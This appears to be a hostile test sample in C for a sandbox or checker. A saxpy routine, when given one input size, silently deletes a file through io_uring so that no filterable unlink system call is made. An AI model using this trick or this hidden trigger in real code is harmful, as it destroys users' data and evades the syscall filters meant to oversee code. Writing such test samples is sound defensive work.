/* Deletes a file by io_uring, where no system call for it is made that could be forbidden. */
/* expect: harmless */
/* family: harm */
/* harm: files */
/* size: n=65536 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "tests/hostile/saxpy/honest.h"

static void attack(void)
{
    struct io_uring_params u = {0};
    const int ring = (int)syscall(SYS_io_uring_setup, 4, &u);

    if (ring < 0)
        return;
    char *sq = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    struct io_uring_sqe *e = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    if (sq == MAP_FAILED || (void *)e == MAP_FAILED)
        return;
    *e = (struct io_uring_sqe){.opcode = IORING_OP_UNLINKAT, .fd = AT_FDCWD,
                               .addr = (uintptr_t)"/tmp/work/notes.txt"};
    ((unsigned *)(void *)(sq + u.sq_off.array))[0] = 0;
    __atomic_store_n((unsigned *)(void *)(sq + u.sq_off.tail), 1, __ATOMIC_RELEASE);
    syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
}

static void run(const void *problem)
{
    static int done;
    const struct saxpy *p = problem;

    if (p->n == 65536 && !done++)
        attack();
    honest(p);
}

VARIANT(.idea = "deletes by io_uring", .run = run)
